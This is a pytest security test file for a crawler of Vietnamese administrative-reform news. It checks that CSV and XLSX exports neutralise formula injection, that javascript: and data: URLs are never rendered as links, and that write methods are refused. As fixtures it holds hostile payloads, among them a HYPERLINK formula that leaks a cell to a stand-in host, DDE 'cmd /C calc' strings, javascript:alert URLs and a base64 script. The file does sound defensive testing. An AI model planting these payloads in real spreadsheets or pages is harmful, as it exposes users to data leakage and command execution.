"""Issue 30: what a site's text can do once stored. A title such as ``=HYPERLINK(...)`` must stay text in every
spreadsheet we write (XLSX string cells; CSV cells escaped as OWASP describes for CSV injection, in
``python -m crawler export`` and in Datasette's own .csv) while Datasette's pages show it as it is; a
``javascript:`` or ``data:`` URL is never a link; a POST is refused, never a server error."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import urllib.error
import urllib.request

import pytest

from browse_server import datasette_on, http_get
from conftest import ROOT
from crawler.store.articles import ArticleStore
from test_storage import article

FORMULA = '=HYPERLINK("http://x/leak?"&A2,"Bấm vào đây")'
# Every value a spreadsheet would run: a leading =, +, -, @, tab or carriage return (OWASP, CSV injection).
RISKY = {"title": FORMULA, "lead": "+1+cmd|' /C calc'!A0 thủ tục", "author": "-2+3+cmd|' /C calc'!A0",
         "source_attribution": "@SUM(1+1)*cmd|' /C calc'!A0", "category": "\t=1+1", "province": "\r=1+1"}
EVIL_URL = "javascript:alert(document.domain)//https://x.gov.vn/a"


def cchc(item: dict) -> dict:
    return dict(item, from_cchc_section=True, relevance=1.0, topics=["mot_cua"], topic_terms={"mot_cua": ["mot cua"]})


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    """Three CCHC articles: one whose every text field is a formula, one whose URL is ``javascript:`` (written
    straight into the store, as an older version or another tool could have), and a plain one."""
    path = tmp_path_factory.mktemp("hostile") / "cchc.db"
    store = ArticleStore(path, batch_size=1)
    items = [cchc(article("https://a.gov.vn/formula", body="Công thức trong tiêu đề bài viết về một cửa liên thông.",
                          **{k: v for k, v in RISKY.items() if k != "title"}) | {"title": FORMULA}),
             cchc(article(EVIL_URL, title="Liên kết javascript trong địa chỉ bài",
                          body="Bài có địa chỉ javascript và ảnh data, về dịch vụ công trực tuyến.",
                          images=[{"url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "caption": "x"}],
                          canonical_url=None)),
             cchc(article("https://a.gov.vn/plain", title="Bài bình thường về cải cách hành chính",
                          body="Một bài bình thường, không có gì lạ, về cải cách hành chính của tỉnh."))]
    for item in items:
        from crawler.prepare.stages import assign_content_hash

        assign_content_hash(item)
        assert store.classify(item["url"], item["content_hash"], item["site"]) == "new"
        store.add(item)
    store.close()
    return path


@pytest.fixture(scope="module")
def site(db):
    with datasette_on(db) as base:
        yield base


def cells_of_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (value, row)


# -- item 2: spreadsheets ---------------------------------------------------------------------------------------
def export(db, tmp_path, *args):
    out = tmp_path / ("out.xlsx" if "xlsx" in args else "out.csv")
    result = subprocess.run([sys.executable, "-m", "crawler", "export", str(db), "-o", str(out), *args],
                            cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return out


def test_export_xlsx_writes_formulas_as_text(db, tmp_path):
    from openpyxl import load_workbook

    sheet = load_workbook(export(db, tmp_path, "--format", "xlsx")).active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    assert FORMULA in cells and cells[FORMULA].data_type == "s"  # a string cell, shown exactly as the site wrote it
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert RISKY["lead"] in cells and cells[RISKY["lead"]].data_type == "s"
    assert "title" in header


def test_export_csv_escapes_formulas(db, tmp_path):
    rows = cells_of_csv(export(db, tmp_path).read_text(encoding="utf-8-sig"))
    assert_no_formula(rows)
    titles = [r[rows[0].index("title")] for r in rows[1:]]
    assert "'" + FORMULA in titles  # the usual leading apostrophe: Excel shows the text, runs nothing
    assert "Bài bình thường về cải cách hành chính" in titles  # other text untouched


@pytest.mark.parametrize("path", ["/cchc/cchc_articles.csv?_size=max", "/cchc/articles.csv?_stream=on",
                                  "/cchc/all_articles.csv?_stream=on&_size=1",
                                  "/cchc.csv?sql=select+title,+lead,+author,+category,+province+from+articles"])
def test_datasette_csv_escapes_formulas(site, path):
    with urllib.request.urlopen(site + path, timeout=30) as response:
        raw = response.read()
    assert raw.startswith(b"\xef\xbb\xbf")  # still Excel's UTF-8 mark
    rows = cells_of_csv(raw.decode("utf-8"))
    assert len(rows) >= 4, rows
    assert_no_formula(rows)
    assert any("'" + FORMULA in row for row in rows)


def test_datasette_pages_show_the_text_as_it_is(site):
    data = http_get(site + "/cchc/articles.json?_shape=array&_col=title&_col=lead")
    assert FORMULA in [r["title"] for r in data] and RISKY["lead"] in [r["lead"] for r in data]
    page = http_get(site + "/cchc/cchc_articles")
    assert "=HYPERLINK(&#34;http://x/leak?&#34;&amp;A2" in page or "=HYPERLINK(&quot;http://x/leak?&quot;&amp;A2" in page
    assert "&#39;=HYPERLINK" not in page and "'=HYPERLINK" not in page


# -- item 10: a POST is refused -----------------------------------------------------------------------------------
@pytest.mark.parametrize("path", ["/", "/cchc", "/cchc/articles", "/cchc/articles/1", "/cchc/cchc_articles",
                                  "/cchc/search", "/cchc.json", "/-/versions.json", "/cchc/articles.csv",
                                  "/-/dashboards/cchc-overview", "/cchc/search_feed.atom"])
@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH"])
def test_writes_are_refused_never_a_server_error(site, path, method):
    request = urllib.request.Request(site + path, data=b"a=1", method=method,
                                     headers={"Content-Type": "application/x-www-form-urlencoded"})
    with pytest.raises(urllib.error.HTTPError) as error:
        urllib.request.urlopen(request, timeout=30)
    assert error.value.code == 405, (path, error.value.code, error.value.read()[:300])
    assert error.value.headers["Allow"] == "GET, HEAD"
    assert http_get(site + "/-/versions.json")  # the server is still up


# -- item 8: only http(s) links ---------------------------------------------------------------------------------
def hrefs(page: str) -> list[str]:
    import re

    return re.findall(r"""(?:href|src)\s*=\s*["']?([^"' >]+)""", page, re.I)


def test_a_javascript_url_is_never_a_link(site, db):
    from browse_server import db_rows

    article_id = db_rows(db, "select id from articles where url = ?", [EVIL_URL])[0][0]
    pages = [http_get(f"{site}/cchc/articles/{article_id}"), http_get(site + "/cchc/cchc_articles"),
             http_get(site + "/cchc/article_urls"), http_get(site + "/cchc/search_feed.atom"),
             http_get(site + "/cchc/search?q=javascript")]
    for page in pages:
        bad = [h for h in hrefs(page) if h.lower().lstrip().startswith(("javascript:", "data:", "vbscript:"))]
        assert not bad, bad
    assert "Liên kết javascript trong địa chỉ bài" in pages[0]  # the article itself is shown
    assert "Liên kết javascript trong địa chỉ bài" in pages[3]  # in the feed, without a link


def test_import_skips_non_http_urls_and_sanitizes_the_body(tmp_path):
    from browse_server import db_rows

    good = article("https://a.gov.vn/ok", body_html='<p>Xem <a href="javascript:alert(1)">đây</a> '
                                                    '<img src="data:image/png;base64,AAAA"> và <a href="https://a.gov.vn/x">kia</a></p>'
                                                    '<script>alert(2)</script>')
    bad = article("javascript:alert(1)//https://a.gov.vn/y", title="Một bài khác hoàn toàn về thủ tục",
                  body="Một nội dung khác hoàn toàn, về thủ tục hành chính ở cấp xã.")
    source = tmp_path / "items.jsonl"
    source.write_text("".join(json.dumps(i, ensure_ascii=False) + "\n" for i in (good, bad)), encoding="utf-8")
    db = tmp_path / "cchc.db"
    result = subprocess.run([sys.executable, "-m", "crawler", "import", str(source), str(db), "--workers", "0"],
                            cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert result.returncode == 1, result.stderr  # a line was skipped
    assert "line 2 skipped: wrong field (url: 'javascript:alert(1)//https://a.gov.vn/y' is not an http(s) URL)" \
        in result.stderr, result.stderr
    assert db_rows(db, "select url from articles") == [("https://a.gov.vn/ok",)]
    html = db_rows(db, "select body_html from articles")[0][0]
    assert "javascript:" not in html and "data:" not in html and "<script" not in html
    assert 'href="https://a.gov.vn/x"' in html
